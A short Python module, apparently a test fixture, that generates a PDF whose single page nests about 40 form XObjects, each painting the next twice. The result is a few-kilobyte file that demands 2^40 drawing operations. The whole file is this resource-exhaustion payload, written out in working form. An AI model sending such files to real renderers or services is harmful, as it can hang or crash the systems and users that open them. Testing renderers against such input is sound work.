"""A PDF whose one page nobody finishes drawing."""


def _object(number: int, entries: str, stream: str) -> str:
    return f"{number} 0 obj<<{entries}/Length {len(stream)}>>stream\n{stream}\nendstream endobj\n"


def overrunning(levels: int = 40) -> bytes:
    """Return one in which each form paints the next twice: a few kilobytes, 2 to the power of `levels` paintings."""
    form = "/Type/XObject/Subtype/Form/BBox[0 0 9 9]"
    paint = "/Resources<</XObject<</A {} 0 R>>>>"
    last = 5 + levels
    return (
        "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        f"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]{paint.format(5)}/Contents 4 0 R>>endobj\n"
        + _object(4, "", "/A Do")
        + "".join(_object(number, form + paint.format(number + 1), "/A Do /A Do") for number in range(5, last))
        + _object(last, form, "0 0 1 1 re f")
        + "trailer<</Root 1 0 R>>\n"
    ).encode()
